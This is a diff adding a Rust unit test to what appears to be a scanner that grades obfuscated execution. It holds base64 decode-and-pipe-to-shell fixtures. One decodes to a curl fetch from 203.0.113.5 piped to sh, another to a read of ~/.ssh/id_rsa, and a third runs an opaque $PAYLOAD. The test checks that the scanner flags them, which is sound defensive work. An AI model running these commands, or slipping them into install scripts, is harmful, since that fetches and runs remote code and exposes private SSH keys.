@@ -4457,3 +4457,33 @@ fn round_26_false_highs_by_technique() {
         Some(Severity::Low)
     );
 }
+
+/// A decode-and-run sample whose blob decodes to a plain print hides
+/// nothing; one that decodes to anything more, or to a print chained with
+/// something else, is still high.
+#[test]
+fn decoded_prints_are_in_view() {
+    let hello = "echo 'ZWNobyAiaGVsbG8gZnJvbSB0aGUgdHJhaW5pbmcgc2FtcGxlIg==' | base64 -d | sh\n";
+    assert_eq!(
+        severity_in("references/samples.md", hello, "obfuscated-exec"),
+        None
+    );
+    // `echo hi; curl -s http://203.0.113.5/x | sh`
+    let chained =
+        "echo 'ZWNobyBoaTsgY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUveCB8IHNo' | base64 -d | sh\n";
+    assert_eq!(
+        severity_in("references/samples.md", chained, "obfuscated-exec"),
+        Some(Severity::High)
+    );
+    // `echo $(cat ~/.ssh/id_rsa)`
+    let substituted = "echo ZWNobyAkKGNhdCB+Ly5zc2gvaWRfcnNhKQ== | base64 --decode | bash\n";
+    assert_eq!(
+        severity_in("install.sh", substituted, "obfuscated-exec"),
+        Some(Severity::High)
+    );
+    let hidden = "echo \"$PAYLOAD\" | base64 -d | sh\n";
+    assert_eq!(
+        severity_in("install.sh", hidden, "obfuscated-exec"),
+        Some(Severity::High)
+    );
+}
